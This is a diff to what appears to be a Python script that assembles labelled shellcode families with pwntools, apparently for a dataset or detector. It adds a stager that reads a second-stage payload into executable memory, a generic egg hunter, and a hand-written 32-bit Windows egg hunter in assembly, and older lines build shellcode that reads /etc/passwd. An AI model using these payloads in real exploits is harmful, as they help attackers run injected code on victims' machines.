@@ -191,7 +191,38 @@ def pwn_payloads(arch):
     p["echo_exit"] = asm(shellcraft.echo("pwned\n", 1) +
                          shellcraft.exit(0))
     p["cat"] = asm(shellcraft.cat("/etc/passwd"))
+    # A stager maps executable memory and reads its second stage into
+    # it; an egg hunter asks the kernel about one page after another.
+    p["stager"] = asm(shellcraft.stager(4, 0x1000))
+    p["egghunter"] = asm(shellcraft.egghunter(b"w00t"))
     return p
+
+
+def win32_egghunter():
+    # The classic Windows egg hunter: NtAccessCheckAndAuditAlarm through
+    # int 0x2e tells it whether a page is there, then scasd finds the egg
+    # twice.
+    return nasm("""
+        bits 32
+    next_page:
+        or dx, 0x0fff
+    next_addr:
+        inc edx
+        push edx
+        push 0x2
+        pop eax
+        int 0x2e
+        cmp al, 0x05
+        pop edx
+        je next_page
+        mov eax, 0x74303077
+        mov edi, edx
+        scasd
+        jnz next_addr
+        scasd
+        jnz next_addr
+        jmp edi
+    """)
 
 
 def families():
@@ -219,6 +250,7 @@ def families():
                 win32_iat(b"kernel32.dll", b"GetTickCount")))
     out.append(("win32_iat_ws2_32", "x86",
                 win32_iat(b"ws2_32.dll", b"WSAStartup")))
+    out.append(("win32_egghunter", "x86", win32_egghunter()))
     out.append(("win64_peb", "x86_64", win64_peb()))
     p64 = pwn_payloads("amd64")
     for k, v in p64.items():
